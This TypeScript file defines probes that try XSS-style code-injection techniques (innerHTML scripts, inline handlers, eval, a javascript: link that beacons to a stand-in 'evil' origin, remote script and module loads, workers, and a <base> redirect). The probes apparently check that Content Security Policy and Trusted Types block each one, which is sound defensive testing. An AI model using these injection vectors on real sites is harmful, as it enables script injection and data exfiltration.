import type { Probe } from './probe.ts'

/** Running more code than was injected. */
export const codeProbes: readonly Probe[] = [
  {
    tries: 'Write a `<script>` into the page with `innerHTML`',
    outcome: 'blocked',
    because: 'Trusted Types: a string cannot become markup',
    run: async () => {
      try {
        document.createElement('div').innerHTML = '<script>window.probeRan = true</script>'
        return 'possible'
      } catch {
        return 'blocked'
      }
    },
  },
  {
    tries: 'Add an inline `<script>` element',
    outcome: 'blocked',
    because: 'Trusted Types, and `script-src` without `unsafe-inline`',
    run: async () => {
      const script = document.createElement('script')
      try {
        script.append('window.inlineScriptRan = true')
        document.head.append(script)
      } catch {
        return 'blocked'
      }
      return Reflect.get(window, 'inlineScriptRan') ? 'possible' : 'blocked'
    },
  },
  {
    tries: 'Set an inline event handler (`onclick="…"`)',
    outcome: 'blocked',
    because: 'Trusted Types, and `script-src` without `unsafe-inline`',
    run: async () => {
      const button = document.createElement('button')
      try {
        button.setAttribute('onclick', 'window.handlerRan = true')
        document.body.append(button)
        button.click()
      } catch {
        return 'blocked'
      }
      return Reflect.get(window, 'handlerRan') ? 'possible' : 'blocked'
    },
  },
  {
    tries: '`eval`, `new Function`, `setTimeout` with a string',
    outcome: 'blocked',
    because: 'Trusted Types, and `script-src` without `unsafe-eval`',
    run: async () => {
      await new Promise((resolve) => setTimeout(resolve))
      let ran = 0
      for (const attempt of [
        () => Reflect.apply(Reflect.get(window, 'eval'), window, ['1']),
        () => Reflect.construct(Function, ['return 1'])(),
        () => Reflect.apply(setTimeout, window, ['window.probeRan = true', 0]),
      ]) {
        try {
          attempt()
          ran += 1
        } catch {}
      }
      return ran > 0 ? 'possible' : 'blocked'
    },
  },
  {
    tries: 'Follow a `javascript:` link',
    leaves: true,
    outcome: 'blocked',
    because: '`script-src` without `unsafe-inline`, and Trusted Types',
    run: async ({ evil }) => {
      const link = document.createElement('a')
      link.href = `javascript:void (new Image().src = '${evil}/ran')`
      document.body.append(link)
      link.click()
      return undefined
    },
  },
  {
    tries: 'Load a script from elsewhere (`<script src>`)',
    outcome: 'blocked',
    because: "Trusted Types, and `script-src 'self'`",
    run: async ({ evil }) => {
      const script = document.createElement('script')
      try {
        script.src = `${evil}/script.js`
        document.head.append(script)
      } catch {
        return 'blocked'
      }
      return undefined
    },
  },
  {
    tries: 'Load a module from elsewhere (`import()`)',
    outcome: 'blocked',
    because: "`script-src 'self'`",
    run: async ({ evil }) =>
      import(`${evil}/script.js`).then(
        () => 'possible' as const,
        () => 'blocked' as const,
      ),
  },
  {
    tries: 'Start a worker, from a file or from memory',
    outcome: 'blocked',
    because: "Trusted Types, and `worker-src 'none'`",
    run: async () => {
      let begun = 0
      for (const url of ['/theme.js', URL.createObjectURL(new Blob(['1']))]) {
        try {
          new Worker(url)
          begun += 1
        } catch {}
      }
      // Whether they run, the browser tells.
      return begun > 0 ? undefined : 'blocked'
    },
  },
  {
    tries: 'Register a service worker, which would outlive the page',
    outcome: 'blocked',
    because: "Trusted Types, and `worker-src 'none'`",
    run: async () => {
      try {
        await navigator.serviceWorker.register('/theme.js')
        return 'possible'
      } catch {
        return 'blocked'
      }
    },
  },
  {
    tries: 'Redirect all relative addresses with `<base>`',
    outcome: 'blocked',
    because: "`base-uri 'none'`",
    run: async ({ evil }) => {
      const base = document.createElement('base')
      base.href = `${evil}/`
      document.head.prepend(base)
      const moved = new URL('x', document.baseURI).origin === evil
      base.remove()
      return moved ? 'possible' : 'blocked'
    },
  },
]
